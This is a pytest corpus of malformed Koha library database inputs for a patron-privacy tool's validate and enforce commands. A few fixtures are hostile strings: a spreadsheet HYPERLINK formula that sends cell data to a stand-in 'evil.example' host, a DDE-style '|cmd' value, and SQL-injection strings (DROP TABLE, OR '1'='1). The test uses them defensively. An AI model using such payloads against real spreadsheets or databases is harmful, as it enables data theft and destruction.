"""A corpus of bad Koha inputs, each through the real CLI: ``validate``, then ``enforce``.

Every case either fails validation with a clear, named check (exit 1), is stopped by the
schema check before any change (exit 2), or is handled correctly (exit 0: validation
passes because the bad value is in a column validation never reads, and enforcement
then works as on clean data). Never a crash, never a hang, and never a change when
validation fails: ``enforce`` runs afterwards and the whole database is compared.
The injected value itself appears in no output.

SQLite here (fast, and it lets in what a typed database would refuse); MariaDB's zero
dates are in tests/integration/test_validation_mariadb.py.
"""

from __future__ import annotations

import logging
import signal
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from koha_builders import ANON, T
from koha_validation_builders import (
    AS_OF_TEXT,
    EXPIRED,
    drop_new_log_handlers,
    koha_for_cli,
    raw_sql,
    seed_history,
    snapshot_sqlite,
)
from patron_privacy import connections
from patron_privacy.cli import main
from patron_privacy.validation import (
    BETWEEN,
    EXISTS,
    FRESH,
    IN_SET,
    NOT_NULL,
    REFERENCE,
    TYPE,
    UNIQUE,
    UTF8,
    VOLUME,
    ZERO_DATES,
)
from sqlalchemy import select

EMAIL = "zqx.corpus.patron@example.org"
TEN_MB = "Q" * 10_000_000
FORMULA = '=HYPERLINK("http://evil.example/x?d="&A1,"Zqxclick")'
SQLISH = "Zqxrobert'); DROP TABLE borrowers;--"


@dataclass(frozen=True)
class Case:
    id: str
    mutate: Callable  # (db_path, warehouse_engine) -> None
    outcome: str  # "fail" (exit 1) | "error" (exit 2, before any change) | "pass"
    expect: tuple[str, ...] = ()  # substrings of stderr: "dataset.column: check", messages
    marker: str | None = None  # the injected value; must appear in no output


def sql(*statements, params=()):
    return lambda db, wh: raw_sql(db, *statements, params=params)


def recreate_without_constraints(db, wh, extra: str):
    raw_sql(
        db,
        "CREATE TABLE oi_copy AS SELECT * FROM old_issues",
        "DROP TABLE old_issues",
        "ALTER TABLE oi_copy RENAME TO old_issues",
        extra,
    )


def k(dataset_column: str, check: str) -> str:
    return f"koha.{dataset_column}: {check}"


CASES = [
    # --- columns: missing, extra ----------------------------------------------------------
    Case(
        "missing_column_read_only_by_validation",
        sql(
            "DROP INDEX old_issues_branchcode_idx",
            "ALTER TABLE old_issues DROP COLUMN branchcode",
        ),
        "fail",
        (k("old_issues.branchcode", EXISTS),),
    ),
    Case(
        "missing_column_a_rule_needs",
        sql(
            "DROP INDEX old_issues_returndate_retention_idx",
            "ALTER TABLE old_issues DROP COLUMN returndate",
        ),
        "error",
        ("column old_issues.returndate",),
    ),
    Case("missing_table", sql("DROP TABLE statistics"), "error", ("table statistics",)),
    Case(
        "extra_column_holding_an_email",
        sql(
            "ALTER TABLE old_issues ADD COLUMN patron_email TEXT",
            f"UPDATE old_issues SET patron_email = '{EMAIL}'",
        ),
        "pass",
        marker=EMAIL,
    ),
    # --- wrong types ----------------------------------------------------------------------
    Case(
        "text_in_an_integer_column",
        sql("UPDATE old_issues SET itemnumber = 'zqx17' WHERE issue_id = 2"),
        "fail",
        (k("old_issues.itemnumber", TYPE),),
        "zqx17",
    ),
    Case(
        "email_in_a_date_column",
        sql(f"UPDATE old_issues SET returndate = '{EMAIL}' WHERE issue_id = 2"),
        "fail",
        (k("old_issues.returndate", TYPE),),
        EMAIL,
    ),
    Case(
        "text_in_an_amount",
        sql("UPDATE accountlines SET amountoutstanding = 'zqx ten dollars'"),
        "fail",
        (k("accountlines.amountoutstanding", TYPE),),
        "zqx ten dollars",
    ),
    Case(
        "number_in_a_date_column",
        sql("UPDATE statistics SET datetime = 20261129 WHERE itemnumber = 2"),
        "fail",
        (k("statistics.datetime", TYPE),),
    ),
    Case(
        "relative_date_word",
        sql("UPDATE old_issues SET returndate = 'now' WHERE issue_id = 2"),
        "fail",
        (k("old_issues.returndate", TYPE),),
    ),
    # --- encodings, NUL bytes, huge fields, control characters ----------------------------
    Case(
        "latin1_bytes_in_a_code",
        sql("UPDATE old_issues SET branchcode = CAST(X'4D41494EE9' AS TEXT) WHERE issue_id = 2"),
        "fail",
        (k("old_issues.branchcode", UTF8), k("old_issues.branchcode", IN_SET)),
    ),
    Case(
        "latin1_bytes_in_a_date",
        sql(
            "UPDATE old_issues SET returndate = CAST(X'323032362D31312DE9' AS TEXT) "
            "WHERE issue_id = 2"
        ),
        "fail",
        (k("old_issues.returndate", UTF8), k("old_issues.returndate", TYPE)),
    ),
    Case(
        "latin1_bytes_in_a_name",
        sql(
            "UPDATE borrowers SET surname = CAST(X'5A7178446F6EE9' AS TEXT) "
            f"WHERE borrowernumber = {EXPIRED}"
        ),
        "pass",
    ),
    Case(
        "nul_byte_in_a_code",
        sql("UPDATE old_issues SET branchcode = ? WHERE issue_id = 2", params=("MA\x00IN",)),
        "fail",
        (k("old_issues.branchcode", IN_SET),),
    ),
    Case(
        "nul_byte_in_a_date",
        sql(
            "UPDATE old_issues SET returndate = ? WHERE issue_id = 2",
            params=("2026-11-28 10:00:00\x00zqx",),
        ),
        "fail",
        (k("old_issues.returndate", TYPE),),
        "zqx",
    ),
    Case(
        "nul_byte_in_a_name",
        sql(
            f"UPDATE borrowers SET firstname = ? WHERE borrowernumber = {EXPIRED}",
            params=("Zqx\x00Anne",),
        ),
        "pass",
        marker="Zqx",
    ),
    Case(
        "ten_megabytes_in_a_code",
        sql("UPDATE old_issues SET branchcode = ? WHERE issue_id = 2", params=(TEN_MB,)),
        "fail",
        (k("old_issues.branchcode", IN_SET),),
        "Q" * 64,
    ),
    Case(
        "ten_megabytes_in_a_note",
        sql("UPDATE old_issues SET note = ? WHERE issue_id = 1", params=(TEN_MB,)),
        "pass",
        marker="Q" * 64,
    ),
    Case(
        "terminal_escapes_in_a_code",
        sql(
            "UPDATE old_issues SET branchcode = ? WHERE issue_id = 2",
            params=("\x1b[31mZQX\x1b[0m\nMAIN",),
        ),
        "fail",
        (k("old_issues.branchcode", IN_SET),),
        "\x1b[31m",
    ),
    # --- impossible dates -----------------------------------------------------------------
    Case(
        "zero_date_as_text",
        sql("UPDATE old_issues SET returndate = '0000-00-00 00:00:00' WHERE issue_id = 2"),
        "fail",
        (k("old_issues.returndate", ZERO_DATES),),
    ),
    Case(
        "date_in_year_0000",
        sql("UPDATE old_issues SET issuedate = '0000-01-01 00:00:00' WHERE issue_id = 2"),
        "fail",
        (k("old_issues.issuedate", BETWEEN),),
    ),
    Case(
        "date_in_year_2999",
        sql("UPDATE old_issues SET returndate = '2999-01-01 00:00:00' WHERE issue_id = 2"),
        "fail",
        (k("old_issues.returndate", BETWEEN),),
    ),
    Case(
        "date_before_1900",
        sql("UPDATE statistics SET datetime = '1899-12-31 23:59:59' WHERE itemnumber = 4"),
        "fail",
        (k("statistics.datetime", BETWEEN),),
    ),
    Case(
        "scheduled_date_far_ahead_is_fine",
        sql("UPDATE borrowers SET dateexpiry = '2999-12-31' WHERE borrowernumber = 10"),
        "pass",
    ),
    Case(
        "truncated_date",
        sql("UPDATE old_issues SET returndate = '2026-11-2' WHERE issue_id = 2"),
        "fail",
        (k("old_issues.returndate", TYPE),),
    ),
    # --- keys and references --------------------------------------------------------------
    Case(
        "duplicate_keys",
        lambda db, wh: recreate_without_constraints(
            db, wh, "INSERT INTO old_issues SELECT * FROM old_issues WHERE issue_id = 2"
        ),
        "fail",
        (k("old_issues.issue_id", UNIQUE),),
    ),
    Case(
        "null_key",
        lambda db, wh: recreate_without_constraints(
            db, wh, "UPDATE old_issues SET issue_id = NULL WHERE issue_id = 4"
        ),
        "fail",
        (k("old_issues.issue_id", NOT_NULL),),
    ),
    Case(
        "orphan_loan_patron",
        sql("UPDATE old_issues SET borrowernumber = 999 WHERE issue_id = 2"),
        "fail",
        (k("old_issues.borrowernumber", REFERENCE),),
    ),
    Case(
        "orphan_loan_item",
        sql("UPDATE old_issues SET itemnumber = 9999 WHERE issue_id = 2"),
        "fail",
        (k("old_issues.itemnumber", REFERENCE),),
    ),
    Case(
        "orphan_open_loan",
        sql("UPDATE issues SET borrowernumber = 998"),
        "fail",
        (k("issues.borrowernumber", REFERENCE),),
    ),
    Case(
        "loan_unlinked_or_anonymous_is_fine",
        sql(
            "UPDATE old_issues SET borrowernumber = NULL WHERE issue_id = 3",
            f"UPDATE old_issues SET borrowernumber = {ANON} WHERE issue_id = 4",
        ),
        "pass",
    ),
    # --- known sets -----------------------------------------------------------------------
    Case(
        "unknown_branch",
        sql("UPDATE old_issues SET branchcode = 'ZQXB' WHERE issue_id = 2"),
        "fail",
        (k("old_issues.branchcode", IN_SET),),
        "ZQXB",
    ),
    Case(
        "truncated_branch",
        sql("UPDATE old_issues SET branchcode = 'MAI' WHERE issue_id = 2"),
        "fail",
        (k("old_issues.branchcode", IN_SET),),
    ),
    Case(
        "branch_in_other_case_is_fine",
        sql("UPDATE old_issues SET branchcode = 'main ' WHERE issue_id = 2"),
        "pass",
    ),
    Case(
        "unknown_item_type",
        sql("UPDATE statistics SET itemtype = 'ZQ'"),
        "fail",
        (k("statistics.itemtype", IN_SET),),
    ),
    Case(
        "unknown_category",
        sql("UPDATE borrowers SET categorycode = 'ZQXCAT' WHERE borrowernumber = 10"),
        "fail",
        (k("borrowers.categorycode", IN_SET),),
        "ZQXCAT",
    ),
    Case(
        "privacy_out_of_range",
        sql("UPDATE borrowers SET privacy = 7 WHERE borrowernumber = 10"),
        "fail",
        (k("borrowers.privacy", IN_SET),),
    ),
    Case(
        "unknown_notice_status",
        sql("UPDATE message_queue SET status = 'zqxbogus'"),
        "fail",
        (k("message_queue.status", IN_SET),),
        "zqxbogus",
    ),
    # --- names: never read, handled -------------------------------------------------------
    Case(
        "formula_injection_in_names",
        sql(
            f"UPDATE borrowers SET surname = ?, firstname = ? WHERE borrowernumber = {EXPIRED}",
            params=(FORMULA, "+Zqx|cmd!A1"),
        ),
        "pass",
        marker="HYPERLINK",
    ),
    Case(
        "sql_looking_names",
        sql(
            f"UPDATE borrowers SET surname = ?, firstname = ? WHERE borrowernumber = {EXPIRED}",
            params=(SQLISH, "1' OR '1'='1"),
        ),
        "pass",
        marker="DROP TABLE",
    ),
    # --- volume and freshness -------------------------------------------------------------
    Case(
        "empty_extract",
        sql("DELETE FROM old_issues"),
        "fail",
        (k("old_issues", VOLUME),),
    ),
    Case(
        "patron_table_emptied",
        sql("DELETE FROM borrowers"),
        "error",
        ("does not exist in borrowers",),
    ),
    Case(
        "stale_copy",
        sql(
            "UPDATE old_issues SET returndate = datetime(returndate, '-30 days')",
            "UPDATE statistics SET datetime = datetime(datetime, '-30 days')",
        ),
        "fail",
        (k("old_issues.returndate", FRESH), k("statistics.datetime", FRESH)),
    ),
    Case(
        "volume_collapsed",
        lambda db, wh: seed_history(wh, "old_issues", [10, 11, 10, 9]),
        "fail",
        (k("old_issues", VOLUME),),
    ),
    Case(
        "volume_exploded",
        lambda db, wh: seed_history(wh, "old_issues", [1, 1, 2]),
        "fail",
        (k("old_issues", VOLUME),),
    ),
    Case(
        "volume_within_bounds",
        lambda db, wh: seed_history(wh, "old_issues", [4, 5, 3, 4, 6, 4, 4, 400]),
        "pass",
    ),
]


@pytest.fixture(autouse=True)
def log_handlers_of_this_test_only():
    before = list(logging.root.handlers)
    yield
    drop_new_log_handlers(before)


@pytest.fixture
def no_hang():
    def alarm(signum, frame):
        raise TimeoutError("corpus case took more than 120 s")

    previous = signal.signal(signal.SIGALRM, alarm)
    signal.alarm(120)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, previous)


@pytest.fixture
def koha_cli(tmp_path, home, monkeypatch):
    return koha_for_cli(tmp_path, home, monkeypatch)


def _loan_owner(db, issue_id: int):
    eng = connections.engine_for_url(f"sqlite:///{db}")
    try:
        with eng.connect() as c:
            oi = T["old_issues"]
            return c.execute(select(oi.c.borrowernumber).where(oi.c.issue_id == issue_id)).scalar()
    finally:
        eng.dispose()


def test_the_corpus_is_large_enough():
    assert len(CASES) >= 25
    assert len({c.id for c in CASES}) == len(CASES)


def test_the_clean_state_passes_and_enforce_changes_it(koha_cli, capsys, no_hang):
    assert main(["validate", "--source", "koha", "--as-of", AS_OF_TEXT]) == 0
    assert "validation passed" in capsys.readouterr().out
    assert main(["enforce", "--source", "koha", "--as-of", AS_OF_TEXT]) == 0
    assert _loan_owner(koha_cli, 1) == ANON


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input(case: Case, koha_cli, home, capsys, no_hang):
    case.mutate(koha_cli, connections.engine_for(connections.WAREHOUSE_DB))
    before = snapshot_sqlite(koha_cli)

    rc = main(["validate", "--source", "koha", "--as-of", AS_OF_TEXT])
    validated = capsys.readouterr()
    expected_rc = {"pass": 0, "fail": 1, "error": 2}[case.outcome]
    assert rc == expected_rc, validated.err
    for fragment in case.expect:
        assert fragment in validated.err, validated.err
    if case.outcome == "fail":
        failed = [line for line in validated.err.splitlines() if line.startswith("error:   ")]
        assert 1 <= len(failed) <= 10, validated.err

    rc = main(["enforce", "--source", "koha", "--as-of", AS_OF_TEXT])
    enforced = capsys.readouterr()
    if case.outcome == "pass":
        assert rc == 0, enforced.err
        assert _loan_owner(koha_cli, 1) == ANON  # enforcement really ran
    else:
        assert rc == expected_rc, enforced.err
        assert snapshot_sqlite(koha_cli) == before, "a refused enforcement changed the source"
        if case.outcome == "fail":
            assert "nothing was changed" in enforced.err

    for text in (validated.out, validated.err, enforced.out, enforced.err):
        assert "Traceback" not in text
        if case.marker:
            assert case.marker not in text
        assert "\x1b" not in text and "\x00" not in text
